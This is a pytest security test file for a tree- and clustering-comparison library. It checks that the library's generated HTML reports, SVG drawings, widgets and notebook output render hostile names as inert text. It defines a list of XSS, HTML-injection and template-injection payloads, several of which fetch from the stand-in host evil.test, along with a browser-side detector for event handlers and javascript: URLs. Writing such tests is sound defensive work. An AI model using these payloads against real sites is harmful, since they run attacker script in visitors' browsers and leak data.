"""Every page and drawing in a browser, with names that would run or fetch something if they were not text.

The browser ignores the policy of a page that forbids both, so that only what the page does with names keeps them out.
"""

import base64

import matplotlib as mpl
import numpy as np
import pandas as pd
import pytest
from tests.plot.test_tree_widget import SCRIPT, VIEW
from tests.test_html import RESULTS

import dendrometry as dm
from dendrometry import plot
from dendrometry.resampling import stability_of_trees

pytestmark = [
    pytest.mark.compiled,  # once is enough: pages are the same without compilation
    pytest.mark.filterwarnings("ignore:Glyph"),  # matplotlib's font lacks some letters
]

RUN = "window.ran=1;fetch('http://evil.test/ran')"
HOSTILE = [
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f'<img src="http://evil.test/i" onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus tabindex='0",
    f'" onclick="{RUN}" style="background:url(http://evil.test/s)',
    f'<a href="javascript:{RUN}">link</a>',
    "<iframe src=http://evil.test/f></iframe>",
    '<meta http-equiv="refresh" content="0;url=http://evil.test/m">',
    "<style>@import url(http://evil.test/c); * { background: url(http://evil.test/b) }</style>",
    "<base href=http://evil.test/><link rel=stylesheet href=http://evil.test/l>",
    f"]]><script>{RUN}</script><![CDATA[",
    f"--><script>{RUN}</script><!--",
    "<!--<script>",
    f"javascript:{RUN}",
    f"\\u003cscript>{RUN}\\u003c/script>",
    "{{7*7}} ${window.ran=1} `${window.ran=1}`",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "url(http://evil.test/u) expression(window.ran=1)",
    "__proto__",
    "constructor",
    "\u202enoitcerid \u2028 \u2029 \x00 \x1b[31m \ud7ff",
    "$\\href{http://evil.test/t}{x}$ %n %s",
    "x" * 500,
]
N = len(HOSTILE)
FIRST, SECOND = HOSTILE[0], HOSTILE[2]

# Hover, focus, press and click whatever there is, and search for a name; names of files are shown by hashes, too.
TOUCH = """async (name) => {
  const kinds = "button, summary, [tabindex], [role], a, circle, rect, path, text, td, th, li, option";
  for (const element of [...document.querySelectorAll(kinds)].slice(0, 400)) {
    if (!element.isConnected) continue; // it was drawn anew
    for (const kind of ["mouseover", "mouseenter", "mousemove", "focus", "click"])
      element.dispatchEvent(new MouseEvent(kind, { bubbles: kind !== "mouseenter", cancelable: true }));
    element.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
  }
  for (const field of document.querySelectorAll("input")) {
    if (!["text", "search"].includes(field.type)) continue;
    field.value = name;
    field.dispatchEvent(new Event("input", { bubbles: true }));
  }
  location.hash = "#" + name;
  await new Promise((done) => setTimeout(() => requestAnimationFrame(() => setTimeout(done)), 50));
}"""
FOUND = """() => [...document.querySelectorAll("*")].flatMap((element) => {
  const strange = ["iframe", "object", "embed", "base", "frame", "foreignobject"].includes(element.localName);
  const runs = ({ name, value }) => name.startsWith("on") || name.endsWith("href") && /^\\s*javascript:/.test(value);
  const fetches = ({ name, value }) => ["href", "src", "action", "style"].includes(name) && /^[^#]*evil/.test(value);
  const bad = [...element.attributes].filter((attribute) => runs(attribute) || fetches(attribute));
  return [...(strange ? [element.localName] : []), ...bad.map(({ name, value }) => `${name}=${value}`)];
})"""

SHOWN = """(parts) => {
  const body = document.body.cloneNode(true);
  body.querySelectorAll("script").forEach((script) => script.remove());
  return parts.map((part) => body.textContent.includes(part));
}"""


@pytest.fixture
def visited(browser):
    """A function that opens a file or a text in a page without a policy, touches everything and returns the page."""
    page = browser.new_page(bypass_csp=True)
    asked, said = [], []
    page.route(
        lambda url: not url.startswith(("file:", "data:", "blob:", "about:")),
        lambda route: (asked.append(route.request.url), route.abort()),
    )
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: said.append(str(error)))

    def visit(path=None, content=None, ready="html"):
        if path is not None:
            page.goto(path.as_uri())
        elif content is not None:
            page.set_content(content)
        page.wait_for_selector(ready, state="attached")
        n_scripts = page.evaluate("document.querySelectorAll('script').length")
        page.evaluate(TOUCH, FIRST)
        assert page.evaluate("typeof window.ran") == "undefined"
        assert page.evaluate(FOUND) == []
        assert page.evaluate("document.querySelectorAll('script').length") == n_scripts
        assert asked == []
        assert said == []
        return page

    yield visit
    page.close()


@pytest.mark.parametrize("name", [HOSTILE[i] for i in (0, 2, 3, 4, 6, 7, 9, 10)], ids=lambda name: name[:12])
def test_the_guard_sees_what_runs_or_is_fetched(browser, name):
    asked = []
    page = browser.new_page(bypass_csp=True)
    page.route(lambda url: "evil.test" in url, lambda route: (asked.append(route.request.url), route.abort()))
    page.set_content(f"<p title='{name}'>{name}</p>", wait_until="commit")
    page.evaluate(TOUCH, "x")
    assert asked or page.evaluate("typeof window.ran") != "undefined" or page.evaluate(FOUND) != []
    page.close()


def points():
    """Points with hostile names of rows and columns."""
    columns = HOSTILE[:4]
    return pd.DataFrame(np.random.default_rng(0).normal(size=(N, 4)), index=HOSTILE, columns=columns)


def trees():
    """Two trees over hostile items, with hostile names of nodes."""
    rng = np.random.default_rng(1)
    above = [*[N // 4] * (N // 4), -1]
    first, second = (
        dm.from_parents(
            above, rng.integers(0, N // 4, N).tolist(), item_names=HOSTILE, node_names=[*HOSTILE[: N // 4], ""]
        )
        for _ in range(2)
    )
    return first, second


def labels_of(tree):
    """Hostile words of all nodes."""
    words = tuple((text, text) for text in HOSTILE[: tree.n_nodes])
    scores = ((1.0, 1.0),) * tree.n_nodes
    every = np.arange(tree.n_nodes)
    return dm.label.NodeLabels("centroid", every, tree.sizes, words, scores, tree.n_items, tree.n_nodes)


def compared(path):
    dm.report(dm.compare(*trees()), path, names=(FIRST, SECOND))


def built(path):
    one, other = (dm.agglomerate(points(), linkage=linkage).hierarchy for linkage in ("average", "single"))
    dm.report(dm.compare(one, other), path, names=(FIRST, SECOND))


def flat(path):
    others = [*HOSTILE[1:4], *HOSTILE[3:]]
    dm.report(dm.comparison.compare_partitions(HOSTILE, others, item_names=HOSTILE), path, names=(FIRST, SECOND))


def many(path):
    one, other = trees()
    dm.report(dm.pairwise_matrix({name: (one, other)[i % 2] for i, name in enumerate(HOSTILE)}, "hierarchical_f"), path)


def changed(path):
    old, new = (
        dm.from_paths({name: (side, name) for name in HOSTILE} | {"x": (HOSTILE[4],)}, sep=None)
        for side in (FIRST, SECOND)
    )
    dm.report(dm.diff(old, new, names=(FIRST, SECOND)), path)


def stable(path):
    dm.report(dm.stability(points(), n_replicates=6, n_references=2, rng=0), path)


def browsed(path):
    tree = trees()[0]
    texts = {name: f"{name} {name}" for name in HOSTILE}
    dm.browse(
        tree,
        path,
        node_labels=labels_of(tree),
        titles=dict(zip(HOSTILE, HOSTILE[::-1], strict=True)),
        texts=texts,
        name=FIRST,
    )


def taxonomies():
    """Two graphs of hostile concepts, with hostile names."""
    for reach in (2, 3):
        edges = [(HOSTILE[i], HOSTILE[i // reach]) for i in range(1, N)] + [(HOSTILE[4], HOSTILE[1])]
        yield dm.Dag.from_edges(edges, names=dict(zip(HOSTILE, HOSTILE[::-1], strict=True)))


def concepts(path):
    dm.report(dm.taxonomy.compare_taxonomies(*taxonomies(), names=(FIRST, SECOND), n_permutations=9), path)


def predicted(path):
    taxonomy, _ = taxonomies()
    truth, found = ({name: [HOSTILE[(i + by) % N]] for i, name in enumerate(HOSTILE)} for by in (0, 1))
    dm.report(dm.taxonomy.score_predictions(truth, found, taxonomy=taxonomy, n_permutations=9, n_bootstrap=9), path)


def leveled(path):
    dm.report(levels(), path, labels=HOSTILE)


def split(path):
    dm.report(dm.significance.splits(points(), n_references=19), path)


PAGES = [compared, built, flat, many, changed, stable, browsed, concepts, predicted, leveled, split]


@pytest.mark.parametrize("write", PAGES, ids=lambda write: write.__name__)
@pytest.mark.usefixtures("few_relabellings")
def test_nothing_runs_on_a_page_and_nothing_is_fetched(write, visited, tmp_path):
    write(tmp_path / "page.html")
    ready = "html[data-ready]" if "data-ready" in (tmp_path / "page.html").read_text(encoding="utf-8") else "html"
    page = visited(tmp_path / "page.html", ready=ready)
    assert page.evaluate(SHOWN, ["window.ran", "evil.test"]) == [True, True]


@pytest.fixture
def few_relabellings(monkeypatch):
    monkeypatch.setattr("dendrometry.comparison.chance._AFFORDED", ((10**6, 19),))


def levels():
    rng = np.random.default_rng(0)
    return dm.partition.resolutions(
        {name: [HOSTILE[i] for i in rng.integers(0, 4, N)] for name in HOSTILE[:3]}, item_names=HOSTILE
    )


def built_tree():
    return dm.agglomerate(points(), linkage="average").hierarchy


DRAWINGS = {
    "clustermap": lambda: plot.clustermap(points()).ax,
    "co_membership": lambda: plot.co_membership(dm.stability(points(), n_replicates=6, n_references=2, rng=0), 2),
    "concept_graph": lambda: plot.concept_graph(next(taxonomies())),
    "concept_graph_of_two": lambda: plot.concept_graph(
        dm.taxonomy.compare_taxonomies(*taxonomies(), names=(FIRST, SECOND), n_permutations=0)
    ),
    "congruence": lambda: plot.congruence(levels()),
    "consistency_groups": lambda: plot.consistency_groups(
        dm.partition.consistency(dict.fromkeys(HOSTILE[:4], HOSTILE), groups=2 * HOSTILE[4:6], item_names=HOSTILE)
    ),
    "dendrogram": lambda: plot.dendrogram(built_tree(), labels=HOSTILE),
    "icicle": lambda: plot.icicle(trees()[0]),
    "item_disagreement": lambda: plot.item_disagreement(dm.item_disagreement(*trees())),
    "matches": lambda: plot.matches(*trees()),
    "resolution_flow": lambda: plot.resolution_flow(levels()),
    "split_merge_flow": lambda: plot.split_merge_flow(HOSTILE, [*HOSTILE[1:4], *HOSTILE[3:]]),
    "tanglegram": lambda: plot.tanglegram(*trees(), names=(FIRST, SECOND)),
    "tree_matrix": lambda: plot.tree_matrix(
        dm.pairwise_matrix(dict(zip(HOSTILE, trees(), strict=False)), "hierarchical_f")
    ),
    "variable_scores": lambda: plot.variable_scores(dm.comparison.score_variables(points())),
}


@pytest.mark.parametrize("kind", DRAWINGS)
@pytest.mark.parametrize("letters", ["none", "path"])
def test_nothing_runs_in_a_drawing(kind, letters, visited, tmp_path):
    with mpl.rc_context({"svg.fonttype": letters}):
        DRAWINGS[kind]().figure.savefig(tmp_path / "drawing.svg")
    visited(tmp_path / "drawing.svg", ready="svg")
    assert b"<script" not in (tmp_path / "drawing.svg").read_bytes()


def test_nothing_runs_in_a_widget(visited):
    drawing = plot.tree_widget(trees()[0])._drawing
    visited(content="<!DOCTYPE html><body></body>").evaluate(VIEW, [base64.b64encode(SCRIPT).decode(), drawing])
    page = visited()
    page.get_by_role("treeitem").last.click()
    assert page.evaluate(SHOWN, ["onload"]) == [True]


def notebook():
    """What a notebook shows of results with hostile names."""
    one, other = trees()
    old, new = (dm.from_paths({name: (side, name) for name in HOSTILE}, sep=None) for side in (FIRST, SECOND))
    yield from (one, dm.compare(one, other), dm.pairwise_matrix({FIRST: one, SECOND: other}, "hierarchical_f"))
    yield from (dm.diff(old, new, names=(FIRST, SECOND)), levels(), stability_of_trees(one, [one, other]))
    yield from (dm.best_matches(one, other), dm.item_disagreement(one, other), dm.consensus([one, other]))
    yield from (labels_of(one), dm.cut_count(built_tree(), 5))
    yield from (dm.changes.carry_names(one, other), dm.changes.track_nodes({FIRST: one, SECOND: other}))
    yield from (dm.Contingency.of(HOSTILE, HOSTILE[::-1]), dm.comparison.score_variables(points()))
    yield from (result for result, _ in RESULTS.values())


def test_nothing_runs_in_a_notebook(visited):
    for result in notebook():
        visited(content=f"<!DOCTYPE html><body>{result._repr_html_()}</body>")
